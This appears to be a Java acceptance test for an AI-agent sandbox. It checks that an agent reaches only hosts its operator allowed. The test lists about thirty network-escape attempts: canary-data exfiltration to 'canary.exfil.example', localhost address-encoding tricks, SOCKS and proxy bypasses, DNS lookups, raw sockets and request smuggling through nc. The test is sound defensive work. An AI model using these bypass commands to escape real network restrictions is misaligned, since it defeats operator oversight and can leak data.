package dev.otters.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** An agent that reaches the hosts which its operator allowed. */
abstract class Egress extends OneHome {
  private static final String AGENTFILE =
      """
      FROM scratch
      NAME scout
      MODEL scripted/scout
      BIN sh otters/tools/sh:latest "A shell."
      BIN curl otters/tools/curl:latest "Transfers data."
      BIN git otters/tools/git:latest "Versions files."
      BIN python3 otters/tools/python3:latest "Runs Python."
      """;

  /** Ways out; {@code PORT} listens on all addresses of this machine, and {@code HOST} is one. */
  private static final List<String> WAYS_OUT =
      List.of(
          "curl -sS -m 5 'http://127.0.0.1:PORT/?secret=canary'",
          "curl -sS -m 5 --noproxy '' 'http://127.0.0.1:PORT/?secret=canary'",
          "curl -sS -m 5 --noproxy '' 'http://HOST:PORT/?secret=canary'",
          "curl -sS -m 5 --noproxy '*' 'http://HOST:PORT/?secret=canary'",
          "curl -sS -m 5 --noproxy '' 'http://localhost:PORT/'",
          "curl -sS -m 5 --noproxy '' 'http://2130706433:PORT/'",
          "curl -sS -m 5 --noproxy '' 'http://0x7f.1:PORT/'",
          "curl -sS -m 5 --noproxy '' 'http://[::ffff:127.0.0.1]:PORT/'",
          "curl -sS -m 5 --noproxy '' 'http://0:PORT/'",
          "curl -sS -m 5 --noproxy '' -H 'Host: HOST' 'http://HOST.:PORT/'",
          "curl -sS -m 5 --noproxy '' -p 'http://HOST:PORT/'",
          "curl -sS -m 5 --noproxy '' --socks5 127.0.0.1:3128 'http://HOST:PORT/'",
          "curl -sS -m 5 --noproxy '' --socks5-hostname 127.0.0.1:3128 'http://HOST:PORT/'",
          "curl -sS -m 5 --noproxy '' -L 'http://ALLOWED/away?secret=canary'",
          "curl -sS -m 5 --noproxy '' --connect-to '::HOST:PORT' 'http://ALLOWED/'",
          "curl -sS -m 5 --noproxy '' --data canary 'http://canary.exfil.example/'",
          "curl -sS -m 5 -x http://HOST:PORT 'http://ALLOWED/'",
          "git ls-remote http://HOST:PORT/canary.git",
          "git clone -q git://HOST:PORT/canary.git",
          "python3 -c 'import socket; socket.create_connection((\"HOST\", PORT), 5)'",
          "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
              + " s.sendto(b\"canary\", (\"HOST\", PORT))'",
          "python3 -c 'import socket; socket.socket(socket.AF_INET6)"
              + ".connect((\"2001:4860:4860::8888\", 53))'",
          "python3 -c 'import socket; socket.getaddrinfo(\"canary.exfil.example\", 80)'",
          "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW,"
              + " socket.IPPROTO_ICMP)'",
          "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://HOST:PORT/\")'",
          "wget -q -O - http://HOST:PORT/",
          "printf 'GET http://ALLOWED/ HTTP/1.1\\r"
              + "\\n"
              + "\\r"
              + "\\n"
              + "GET http://HOST:PORT/ HTTP/1.1\\r"
              + "\\n"
              + "\\r"
              + "\\n"
              + "' | nc -w 2 127.0.0.1 3128 | grep -c canary",
          "nslookup canary.exfil.example HOST",
          "ping -c 1 -W 2 HOST");

  private Sink sink;

  @BeforeAll
  void aHome() throws IOException {
    otters.script(
        "scout",
        """
        rules:
          - when: {user: "run (.*)"}
            call: {tool: sh, args: ["-c", "${1}"]}
          - when: {user: "fetch (.*)"}
            call: {tool: curl, args: ["-sS", "--noproxy", "", "${1}"]}
          - when: {result: {matches: "(?s)(.*)"}}
            say: "${1}"
        """);
  }

  @BeforeEach
  void anAgentThatMayReachOneHost() throws IOException {
    sink = Sink.open();
    String context = otters.agentfile("scout", AGENTFILE).toString();
    otters.run("run", "--allow-host", sink.allowed(), context).ok();
  }

  @AfterEach
  void closeServers() throws IOException {
    sink.close();
  }

  private Run shell(String command) {
    return otters.run("exec", "scout", "sh", "-c", command);
  }

  @Test
  void theToolsOfATurnReachTheHostAndNoOther() throws IOException {
    assertThat(otters.run("prompt", "scout", "run curl -sS --noproxy '' " + page()).ok())
        .contains("a page of the web");
    assertThat(otters.run("prompt", "scout", "run curl -sS http://api.example.com/").ok())
        .contains(
            "This agent may not connect to api.example.com:80: no rule allows it. The operator can"
                + " allow it with: otters update scout --allow-host api.example.com");
    JsonNode contacts = otters.json("egress", "scout");
    assertThat(contacts).hasSize(2);
    assertThat(contacts.get(0).get("host").asString()).isEqualTo("api.example.com");
    assertThat(contacts.get(0).get("allowed").asBoolean()).isFalse();
    assertThat(contacts.get(1).get("rule").asString()).isEqualTo(sink.allowed());
    assertThat(contacts.get(1).get("received").asLong()).isGreaterThan(18);
    assertThat(Otters.read(otters.root("scout").resolve("etc/context/AGENT.md")))
        .contains("and no others: `" + sink.allowed() + "`.");
  }

  private String page() {
    return "http://" + sink.allowed() + "/";
  }

  @Test
  void nothingGetsOut() throws Exception {
    List<String> reached = new ArrayList<>();
    for (String way : WAYS_OUT) {
      String command =
          way.replace("PORT", String.valueOf(sink.port()))
              .replace("HOST", Sink.address())
              .replace("ALLOWED", sink.allowed());
      Run run = shell(command);
      boolean refused = run.code() != 0 || run.out().contains("may not connect to");
      if (!refused && !run.out().contains("does not understand") && !run.out().isEmpty()) {
        reached.add(command + ": " + run.out());
      }
    }
    assertThat(reached).isEmpty();
    assertThat(sink.connections()).isZero();
  }

  @Test
  void hostsAreAllowedAndForbiddenLater() {
    String rule = "127.0.0.1:" + sink.port();
    String command = "curl -sS --noproxy '' -m 5 http://" + rule + "/";
    assertThat(shell(command).out()).contains("--allow-host " + rule);

    otters.run("update", "--allow-host", rule, "scout").ok();
    assertThat(shell(command).err()).contains("Empty reply from server");
    assertThat(sink.connections()).isEqualTo(1);

    otters.run("update", "--allow-host-rm", rule, "scout").ok();
    assertThat(shell(command).out()).contains("--allow-host " + rule);
    assertThat(otters.json("inspect", "scout").get(0).get("allowHosts"))
        .hasToString("[\"" + sink.allowed() + "\"]");
    assertThat(sink.connections()).isEqualTo(1);
  }

  @Test
  void aToolInASandboxOfItsOwnReachesTheHostsOfItsAgent() {
    String[] tool = {"otters/tools/curl", "-sS", "--noproxy", "", page()};
    String[] open = {"bin", "run", "--allow-host", sink.allowed()};
    assertThat(otters.run(joined(open, tool)).ok()).isEqualTo("a page of the web\n");
    String[] closed = {"bin", "run", "--allow-host", "a.example"};
    assertThat(otters.run(joined(closed, tool)).ok())
        .contains("allow it with: otters bin run --allow-host " + sink.allowed());
    assertThat(otters.run(joined(new String[] {"bin", "run"}, tool)).code()).isEqualTo(7);

    String context = otters.files().resolve("contexts/scout").toString();
    otters.run("rm", "-f", "scout").ok();
    otters.run("run", "--ask", "curl", "--allow-host", sink.allowed(), context).ok();
    Run.Started answer = otters.start("prompt", "-s", "s", "scout", "fetch " + page());
    Eventually.is("a call waits", () -> otters.json("approvals").size() == 1);
    String call = otters.json("approvals").get(0).get("id").asString();
    otters.run("session", "confirm", "scout", "s", call, "--allow").ok();
    assertThat(answer.await().ok()).contains("a page of the web");
    assertThat(otters.json("egress", "scout").get(0).get("allowed").asBoolean()).isTrue();
    assertThat(otters.home().resolve("run").toFile().list()).hasSize(1);
  }

  private static String[] joined(String[] first, String[] second) {
    return Stream.concat(Arrays.stream(first), Arrays.stream(second)).toArray(String[]::new);
  }

  @Test
  void theProxyIsThereAfterARestartOfTheDaemon() {
    otters.killDaemon();
    otters.run("ps").ok();
    assertThat(shell("curl -sS --noproxy '' " + page()).ok()).isEqualTo("a page of the web\n");
    assertThat(otters.json("egress", "scout").get(0).get("rule").asString())
        .isEqualTo(sink.allowed());
  }

  @Test
  void anAgentWithoutANetworkHasNoProxyUntilAHostIsAllowed() throws IOException {
    String context = otters.files().resolve("contexts/scout").toString();
    otters.run("run", "--name", "hermit", "--network", "none", context).ok();
    String[] command = {
      "exec", "hermit", "curl", "-sS", "--noproxy", "", "-x", "http://127.0.0.1:3128", page()
    };
    assertThat(otters.run(command).err()).contains("Failed to connect to 127.0.0.1");
    assertThat(otters.run("exec", "hermit", "sh", "-c", "env").ok()).doesNotContain("PROXY");

    otters.run("update", "--allow-host", sink.allowed(), "hermit").ok();
    assertThat(otters.run(command).ok()).isEqualTo("a page of the web\n");
  }
}
